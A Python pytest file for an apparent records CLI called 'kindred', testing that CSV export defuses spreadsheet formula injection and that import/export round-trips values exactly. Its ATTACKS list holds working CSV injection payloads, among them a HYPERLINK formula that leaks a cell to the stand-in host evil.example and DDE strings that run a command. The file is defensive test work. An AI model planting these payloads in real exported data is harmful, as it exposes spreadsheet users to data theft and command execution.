"""CSV formula injection: a value a spreadsheet would run as a formula (``=HYPERLINK(…)``,
``=cmd|' /C calc'!A0``, ``@SUM(A1)``, ``+SUM(1,2)``, …) is exported defused — a leading ``'``
(OWASP "CSV Injection"), every cell quoted — and import keeps values exactly as given, so
export → import gives back exactly the records that were exported. JSON Lines stays raw.

Everything runs through the real ``kindred import`` / ``kindred export`` commands, on both
dialects.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from kindred.auth.permissions import SYSTEM_PRINCIPAL
from kindred.cli import app
from kindred.cli import commands as _commands  # noqa: F401  (registers the commands)
from kindred.config import get_settings
from kindred.records.service import RequestContext
from tests.conftest import TEST_SECRET

SYSTEM = RequestContext(SYSTEM_PRINCIPAL)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# The payloads, and the characters around them that matter.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1)",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",  # a tab some tools add to defuse a formula
    "\r=1+1",
    '=1+2";=1+2',  # OWASP: a quote and a separator must not end the cell early
]

# Text values whose round trip is the hard part: every trigger, quotes that look like the
# escape, and characters a careless import would trim.
TEXTS = [
    *(f"{trigger}SUM(1,2)" for trigger in TRIGGERS),
    *(f"'{trigger}already quoted" for trigger in TRIGGERS),
    "''=two quotes",
    "'plain quote",
    "'",
    "-5",
    "+86 21 5555 0101",
    "  padded on both sides  ",
    "\tleading tab",
    "trailing tab\t",
    "line one\r\nline two",
    "x;=1+2",
    "plain",
]


@pytest.fixture
def cli(database_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[CliRunner]:
    monkeypatch.setenv("KINDRED_DATABASE_URL", database_url)
    monkeypatch.setenv("KINDRED_SECRET_KEY", TEST_SECRET)
    monkeypatch.setenv("KINDRED_PASSWORD_TIME_COST", "1")
    monkeypatch.setenv("KINDRED_PASSWORD_MEMORY_KIB", "64")
    get_settings.cache_clear()
    yield CliRunner()
    get_settings.cache_clear()


@pytest.fixture
def sheet(kindred: Any) -> Any:
    """A custom object with one field of each type a round trip can trip over (numbers
    without a minimum, so negative values are allowed)."""
    with kindred.database.write() as session:
        kindred.metadata.create_object(
            session,
            {
                "name": "sheet",
                "label": "Sheet",
                "label_plural": "Sheets",
                "fields": [
                    {"name": "title", "type": "text"},
                    {"name": "notes", "type": "long_text"},
                    {"name": "balance", "type": "number"},
                    {"name": "amount", "type": "money"},
                    {"name": "share", "type": "percent"},
                    {"name": "phone", "type": "phone"},
                    {"name": "extra", "type": "json"},
                ],
            },
            actor_id=None,
            request_id="csv-injection",
        )
    return kindred


def create(kindred: Any, rows: list[dict[str, Any]]) -> None:
    with kindred.database.write() as session:
        for row in rows:
            kindred.records.create(session, SYSTEM, "sheet", row)


def stored(kindred: Any) -> dict[str, dict[str, Any]]:
    """Every sheet record's field values, by id."""
    with kindred.database.read() as session:
        page = kindred.records.list_records(session, SYSTEM, "sheet", _all())
    fields = ("title", "notes", "balance", "amount", "share", "phone", "extra")
    return {r["id"]: {f: r[f] for f in fields if r.get(f) is not None} for r in page.data}


def _all() -> Any:
    from kindred.records.query import ListQuery

    return ListQuery(limit=1000)


def delete_all(kindred: Any) -> None:
    with kindred.database.write() as session:
        for record_id in stored(kindred):
            kindred.records.delete(session, SYSTEM, "sheet", record_id, if_match=None)


def export(cli: CliRunner, path: Path, *, format: str = "csv") -> str:
    result = cli.invoke(app, ["export", "sheet", "--format", format, "--out", str(path)])
    assert result.exit_code == 0, result.output
    return read(path)


def read(path: Path) -> str:
    # newline="": the file's own line ends (a "\r" inside a cell must stay a "\r").
    with path.open(encoding="utf-8", newline="") as handle:
        return handle.read()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_export_defuses_every_formula(cli: CliRunner, sheet: Any, tmp_path: Path) -> None:
    create(sheet, [{"title": attack, "notes": attack} for attack in ATTACKS])
    text = export(cli, tmp_path / "sheets.csv")
    rows = cells(text)
    header, body = rows[0], rows[1:]
    assert len(body) == len(ATTACKS)
    # No cell of the file starts with a character a spreadsheet reads as a formula …
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), (cell, row)
    # … because each such value got exactly one leading quote, and nothing else changed.
    titles = sorted(row[header.index("title")] for row in body)
    assert titles == sorted("'" + attack for attack in ATTACKS)
    assert sorted(row[header.index("notes")] for row in body) == titles
    # Every cell is quoted, and quotes inside are doubled: OWASP's own example stays one cell.
    assert '"\'=1+2"";=1+2"' in text
    lines = text.split("\r\n")
    assert all(line.startswith('"') for line in lines if line)


def test_json_lines_export_stays_raw(cli: CliRunner, sheet: Any, tmp_path: Path) -> None:
    create(sheet, [{"title": attack} for attack in ATTACKS])
    text = export(cli, tmp_path / "sheets.jsonl", format="jsonl")
    titles = sorted(json.loads(line)["title"] for line in text.splitlines())
    assert titles == sorted(ATTACKS)


def test_import_keeps_values_exactly(cli: CliRunner, sheet: Any, tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["title", "notes"])
        writer.writerow(["\t=1+1", "  two spaces  "])
        writer.writerow(["\tleading tab", "trailing tab\t"])
        writer.writerow(["@SUM(A1)", "'plain quote"])
    result = cli.invoke(app, ["import", "sheet", str(source)])
    assert result.exit_code == 0, result.output
    assert sorted((r["title"], r["notes"]) for r in stored(sheet).values()) == sorted(
        [
            ("\t=1+1", "  two spaces  "),
            ("\tleading tab", "trailing tab\t"),
            ("@SUM(A1)", "'plain quote"),
        ]
    )


def test_a_defused_cell_from_a_spreadsheet_imports_as_its_value(
    cli: CliRunner, sheet: Any, tmp_path: Path
) -> None:
    """A leading ' before a formula character is a spreadsheet's "this is text" mark (the
    escape OWASP asks exporters for): import takes it off, exactly once — so numbers and
    phone numbers escaped by another tool still import as what they are."""
    source = tmp_path / "escaped.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["title", "balance", "amount", "phone"])
        writer.writerow(["'=SUM(1,2)", "'-5", "'-12.50", "'+86 21 5555 0101"])
        writer.writerow(["''@twice", "'+7", "3", ""])
    result = cli.invoke(app, ["import", "sheet", str(source)])
    assert result.exit_code == 0, result.output
    assert sorted(stored(sheet).values(), key=lambda r: str(r["title"])) == [
        {"title": "'@twice", "balance": 7, "amount": 3},
        {"title": "=SUM(1,2)", "balance": -5, "amount": -12.5, "phone": "+86 21 5555 0101"},
    ]


def test_export_then_import_gives_back_exactly_the_records(
    cli: CliRunner, sheet: Any, tmp_path: Path
) -> None:
    rows: list[dict[str, Any]] = [{"title": text, "notes": text} for text in TEXTS]
    rows += [
        {"title": "numbers", "balance": -5, "amount": -12.5, "share": -3, "extra": -5},
        {"title": "small", "balance": -0.25, "amount": 0, "share": 12.5},
        {"title": "phone", "phone": "+86 21 5555 0101"},
        {"title": "json text", "extra": '=HYPERLINK("http://evil.example")'},
        {"title": "json object", "extra": {"formula": "=1+1", "n": -1}},
    ]
    create(sheet, rows)
    before = stored(sheet)
    assert len(before) == len(rows)
    path = tmp_path / "sheets.csv"
    text = export(cli, path)
    # Numbers are not escaped: "-5" is a number to a spreadsheet, not a formula, and a
    # quote would turn it into text.
    header, *body = cells(text)
    numbers = next(row for row in body if row[header.index("title")] == "numbers")
    assert [numbers[header.index(f)] for f in ("balance", "amount", "share", "extra")] == [
        "-5",
        "-12.5",
        "-3",
        "-5",
    ]

    delete_all(sheet)
    assert stored(sheet) == {}
    result = cli.invoke(app, ["import", "sheet", str(path)])
    assert result.exit_code == 0, result.output
    assert f"{len(rows)} created" in result.output
    assert stored(sheet) == before
    # And the file exported again is the file exported first (but for the timestamps).
    again = cells(export(cli, tmp_path / "again.csv"))
    kept = [i for i, name in enumerate(header) if name not in ("created_at", "updated_at")]
    assert sorted([row[i] for i in kept] for row in again[1:]) == sorted(
        [row[i] for i in kept] for row in body
    )


def test_the_error_report_is_defused_too(cli: CliRunner, sheet: Any, tmp_path: Path) -> None:
    source = tmp_path / "bad.csv"
    source.write_text('+Phone,title\n"not a phone",ok\n', encoding="utf-8")
    report = tmp_path / "errors.csv"
    result = cli.invoke(
        app,
        ["import", "sheet", str(source), "--map", "+Phone=phone", "--errors-out", str(report)],
    )
    assert result.exit_code == 2, result.output
    assert stored(sheet) == {}  # all or nothing: the refused import wrote nothing
    rows = cells(read(report))
    assert rows[1][:4] == ["2", "'+Phone", "phone", "format"]
    assert all(not cell.startswith(TRIGGERS) for row in rows for cell in row)
